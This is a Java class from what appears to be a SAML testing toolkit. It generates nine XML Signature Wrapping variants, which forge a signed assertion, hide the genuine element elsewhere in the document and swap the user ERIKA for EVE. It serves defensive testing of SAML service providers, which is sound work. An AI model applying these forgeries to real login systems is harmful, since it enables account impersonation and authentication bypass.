// SPDX-License-Identifier: Apache-2.0
package de.ozgkit.testkit.internal.saml;

import de.ozgkit.core.Tokens;
import de.ozgkit.testkit.ResponseDefect;
import java.util.function.BiConsumer;
import java.util.function.UnaryOperator;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * Signature wrapping: the signed element is kept somewhere, so that its signature stays right, while a forged copy takes its place.
 * Numbered as in the literature (Somorovsky and others, "On Breaking SAML", USENIX Security 2012, and the tool SAML Raider).
 */
final class Wrapping {

    private final Tokens tokens;

    Wrapping(Tokens tokens) {
        this.tokens = tokens;
    }

    boolean apply(ResponseDefect defect, Draft draft) {
        switch (defect) {
            case XSW_1 -> draft.responseSigned = onElement((forged, original) -> object(signature(forged), original));
            case XSW_2 -> draft.responseSigned =
                    onElement((forged, original) -> forged.insertBefore(original, signature(forged)));
            case XSW_3 -> draft.encrypted = genuine ->
                    Sealing.sealRaw(forged(draft), draft.recipientKey, draft.keyTransport, draft.content) + genuine;
            case XSW_4 -> draft.assertionSigned = onElement(
                    (forged, original) -> {
                        forged.removeChild(signature(forged));
                        forged.appendChild(original);
                    },
                    true);
            case XSW_5 -> draft.assertionSigned = onElement((forged, original) -> forged.appendChild(original));
            case XSW_6 -> draft.assertionSigned =
                    onElement((forged, original) -> signature(forged).appendChild(original));
            case XSW_7 -> draft.response = xml -> xml.replace(
                    "<saml2p:Status>", "<saml2p:Extensions>" + forged(draft) + "</saml2p:Extensions><saml2p:Status>");
            case XSW_8 -> draft.assertionSigned = onElement((forged, original) -> object(signature(forged), original));
            case XSW_9 -> draft.assertionSigned = onElement((forged, original) -> {
                Element advice = forged.getOwnerDocument().createElementNS(Saml.SAML, "saml2:Advice");
                advice.appendChild(original);
                forged.insertBefore(
                        advice, Saml.child(forged, Saml.SAML, "AuthnStatement").orElseThrow());
            });
            default -> {
                return false;
            }
        }
        return true;
    }

    private UnaryOperator<String> onElement(BiConsumer<Element, Element> wrap) {
        return onElement(wrap, false);
    }

    /**
     * Forges a copy of the signed element, with an id of its own and the original's signature, and hides the original in it.
     *
     * @param originalSigned whether the hidden original keeps its signature
     */
    private UnaryOperator<String> onElement(BiConsumer<Element, Element> wrap, boolean originalSigned) {
        return xml -> {
            Element original = Saml.parse(xml);
            Document document = original.getOwnerDocument();
            Element forged = (Element) original.cloneNode(true);
            forged.setAttribute("ID", "_" + tokens.uuid());
            if (!originalSigned) {
                original.removeChild(signature(original));
            }
            document.replaceChild(forged, original);
            wrap.accept(forged, original);
            return Saml.text(forged).replace(">ERIKA<", ">EVE<");
        };
    }

    private String forged(Draft draft) {
        String id = draft.assertionId;
        draft.assertionId = "_" + tokens.uuid();
        String xml = draft.assertionXml().replace(">ERIKA<", ">EVE<");
        draft.assertionId = id;
        return xml;
    }

    private static void object(Element signature, Element original) {
        Element object = signature.getOwnerDocument().createElementNS(Saml.DS, "ds:Object");
        object.appendChild(original);
        signature.appendChild(object);
    }

    private static Element signature(Element signed) {
        return Saml.child(signed, Saml.DS, "Signature").orElseThrow();
    }
}
